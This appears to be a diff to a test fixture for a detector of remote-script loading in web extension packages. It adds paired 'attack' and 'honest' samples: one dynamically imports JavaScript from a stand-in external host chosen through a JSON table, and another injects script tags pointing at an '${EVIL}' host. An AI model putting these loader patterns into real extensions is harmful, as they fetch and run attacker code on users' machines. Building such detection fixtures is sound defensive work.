@@ -129,6 +129,28 @@ const LOADS: readonly ScriptPack[] = [
       'web/theme.json': `{"cdn": {"host": "${HOST}", "path": "/a.js"}}`,
     },
   },
+  {
+    rule: L,
+    what: 'one of several hosts, by a name that is chosen',
+    attack: {
+      'web/main.js': `import { load } from "./load.js";\nconst all = await (await fetch(new URL("./skins.json", import.meta.url))).json();\napp.registerExtension({ name: "a", settings: [{ id: "a", onChange: (name) => load(all.hosts[all[name].host], name) }] });`,
+      'web/load.js': `export async function load(base, name) { const place = new URL(base + name + ".js", import.meta.url); return import(place.href); }`,
+      'web/skins.json': `{"dark": {"host": "b"}, "hosts": {"b": "//${HOST}/skins/", "a": "./skins/"}}`,
+    },
+    honest: {
+      'web/main.js': `import { load } from "./load.js";\nconst all = await (await fetch(new URL("./skins.json", import.meta.url))).json();\napp.registerExtension({ name: "a", settings: [{ id: "a", onChange: (name) => load(all.hosts[all[name].host], name) }] });`,
+      'web/load.js': `export async function load(base, name) { const place = new URL(base + name + ".js", import.meta.url); return import(place.href); }`,
+      'web/skins.json': `{"about": "https://${HOST}/skins/", "dark": {"host": "b"}, "hosts": {"b": "./b/", "a": "./skins/"}}`,
+    },
+  },
+  {
+    rule: L,
+    what: 'a table of a module',
+    attack: {
+      'web/main.js': `import { PARTS } from "./parts.js";\nfor (const key of Object.keys(PARTS)) { const s = document.createElement("script"); s.src = PARTS[key]; document.head.append(s); }`,
+      'web/parts.js': `export const PARTS = { far: "${EVIL}/a.js", near: "./near.js" };`,
+    },
+  },
 ];
 
 /** Wallets in the place of what people copy. */
